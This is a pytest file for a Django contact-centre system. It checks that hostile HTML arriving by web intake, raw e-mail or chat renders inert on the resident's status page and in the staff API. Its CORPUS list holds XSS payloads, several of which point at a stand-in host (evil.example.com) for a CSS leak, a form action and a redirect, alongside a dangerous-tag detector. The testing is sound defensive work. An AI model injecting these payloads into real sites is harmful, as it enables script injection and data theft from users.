"""A payload corpus through web intake, raw e-mail and chat renders inert on the resident's
status page and in the API's ``body_html``. (CSV neutralisation belongs to the reports' tests.)"""

from __future__ import annotations

import re
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import formataddr
from html.parser import HTMLParser

import pytest

from contactcentre.intake.chat.services import chat_message_receive, chat_session_open
from contactcentre.tickets.links import ticket_status_token
from contactcentre.tickets.models import Message, Ticket
from tests.conftest import client_for, web_enquiry

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("null_router")]

CORPUS = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">klicka</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">klicka</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<iframe src="https://evil.example.com"></iframe>',
    '<div style="background:url(javascript:alert(1))">css</div>',
    "<style>body{background:url('https://evil.example.com/leak')}</style>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '"><script>alert(1)</script>',
    "<body onload=alert(1)>",
    '<form action="https://evil.example.com"><input name=p></form>',
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example.com">',
]
DANGEROUS_TAGS = {"script", "style", "iframe", "svg", "math", "object", "embed", "form", "input", "meta", "base",
                  "link", "animate", "body"}


class _Scan(HTMLParser):
    def __init__(self, *, allowed_scripts: tuple[str, ...] = ()) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.allowed_scripts = allowed_scripts

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and (values.get("src") or "").startswith(self.allowed_scripts or ("\0",)):
            return
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            v = (value or "").strip().lower().replace("\t", "").replace("\n", "")
            if name.startswith("on") or name == "style" and "url(" in v:
                self.problems.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "data", "formaction") and v.startswith(("javascript:", "data:", "vbscript:")):
                self.problems.append(f"{tag}[{name}={v[:20]}]")


def assert_inert(html: str, **kwargs: tuple[str, ...]) -> None:
    scan = _Scan(**kwargs)
    scan.feed(html)
    assert not scan.problems, scan.problems


def _mail(payload: str, n: int) -> bytes:
    # compat32 MIME classes: the hostile display name goes out as given, as an attacker sends it.
    msg = MIMEMultipart("alternative")
    msg["From"] = formataddr((payload[:40], f"eva{n}@example.org"))
    msg["To"] = "kontakt@solna.example.org"
    msg["Subject"] = f"Fråga {n} {payload[:60]}"
    msg["Message-ID"] = f"<hostile-{n}@example.org>"
    msg.attach(MIMEText("Se HTML-delen.", "plain", "utf-8"))
    msg.attach(MIMEText(f"<html><body><p>Hej</p>{payload}<p>Mvh Eva</p></body></html>", "html", "utf-8"))
    return msg.as_bytes()


def _status_page(client, ticket: Ticket) -> str:  # type: ignore[no-untyped-def]
    """The resident's page: the conversation itself must hold no markup at all beyond the
    template's own; the page around it only the template's own scripts (from /static/)."""
    r = client.get(f"/arende/{ticket_status_token(ticket)}/")
    assert r.status_code == 200
    page = r.content.decode()
    thread = page[page.index('<ol class="thread">'):page.index("</ol>", page.index('<ol class="thread">'))]
    assert_inert(thread)
    return re.sub(r"<(meta|link|body|form|input)\b", r"<ok-\1", page)


def _staff_view(ticket: Ticket) -> list[dict]:  # type: ignore[type-arg]
    from tests.factories import UserFactory

    agent = UserFactory(username="anna", role="agent")
    r = client_for(agent).get(f"/api/v1/tickets/{ticket.reference}/messages/")
    assert r.status_code == 200
    return r.json()


@pytest.mark.parametrize("payload", CORPUS)
def test_web_intake(payload: str, api, client) -> None:  # type: ignore[no-untyped-def]
    r = web_enquiry(api, name=payload[:100], subject=payload[:200], message=f"Hej! {payload}")
    assert r.status_code in (200, 201, 202), r.content
    ticket = Ticket.objects.get(reference=r.json()["reference"])
    assert_inert(_status_page(client, ticket), allowed_scripts=("/static/",))
    for message in _staff_view(ticket):
        assert_inert(message.get("body_html") or "")


@pytest.mark.parametrize("n,payload", list(enumerate(CORPUS)))
def test_raw_email(n: int, payload: str, api, client, settings) -> None:  # type: ignore[no-untyped-def]
    settings.EMAIL_INTAKE_SECRET = "test-intake-secret"
    r = api.post("/api/v1/intake/email/", data=_mail(payload, n), content_type="message/rfc822",
                 HTTP_X_EMAIL_INTAKE_SECRET="test-intake-secret")
    assert r.status_code == 201, r.content
    ticket = Ticket.objects.get(reference=r.json()["reference"])
    stored = Message.objects.filter(ticket=ticket, direction="inbound").get()
    assert stored.body_html, "the HTML part was kept (sanitised), not dropped"
    assert_inert(stored.body_html)
    assert_inert(_status_page(client, ticket), allowed_scripts=("/static/",))
    for message in _staff_view(ticket):
        assert_inert(message.get("body_html") or "")


@pytest.mark.parametrize("payload", CORPUS)
def test_chat(payload: str, client, settings) -> None:  # type: ignore[no-untyped-def]
    settings.CHAT_ALWAYS_OPEN = True
    settings.CHAT_REQUIRE_AGENT_ONLINE = False
    opened = chat_session_open(token=None, ip=None, name=payload[:80])
    received = chat_message_receive(session_id=opened.session.pk, text=f"Hej {payload}")
    ticket = Ticket.objects.get(pk=received.ticket_id)
    assert_inert(_status_page(client, ticket), allowed_scripts=("/static/",))
    for message in _staff_view(ticket):
        assert_inert(message.get("body_html") or "")
